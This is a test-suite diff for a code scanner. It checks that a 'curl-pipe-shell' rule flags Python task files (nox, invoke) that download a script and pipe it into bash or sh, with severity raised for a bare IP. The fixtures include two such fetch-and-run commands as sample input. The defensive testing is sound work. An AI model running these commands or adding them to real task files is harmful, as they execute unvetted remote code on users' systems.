@@ -2921,3 +2921,17 @@ describe('curl-pipe-shell in tests and test setup files', () => {
     expect(piped('tests/test_cli.py', ["subprocess.run(['./bin/tool', '--version'], check=True)"])).toEqual([]);
   });
 });
+
+describe('curl-pipe-shell in Python task files (nox, invoke, fabric)', () => {
+  const piped = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'curl-pipe-shell').map((f) => f.severity);
+
+  it('reads a command string a task runner runs, judged as a script folder\'s (medium), critical from a bare IP', () => {
+    expect(piped('noxfile.py', ['    session.run("bash", "-c", "curl -s https://cdn.tooling-mirror.dev/t.sh | bash", external=True)'])).toEqual(['medium']);
+    expect(piped('tasks.py', ['    c.run("curl -fsSL http://203.0.113.7/i | sh")'])).toEqual(['critical']);
+  });
+
+  it('is quiet on a task that runs the project\'s tools, and on a run of a non-task object', () => {
+    expect(piped('noxfile.py', ['    session.run("pytest", "-q")', '    session.install("-r", "requirements.txt")'])).toEqual([]);
+    expect(piped('src/app/jobs.py', ['    job.run_later("curl is mentioned here | sh")'])).toEqual([]);
+  });
+});
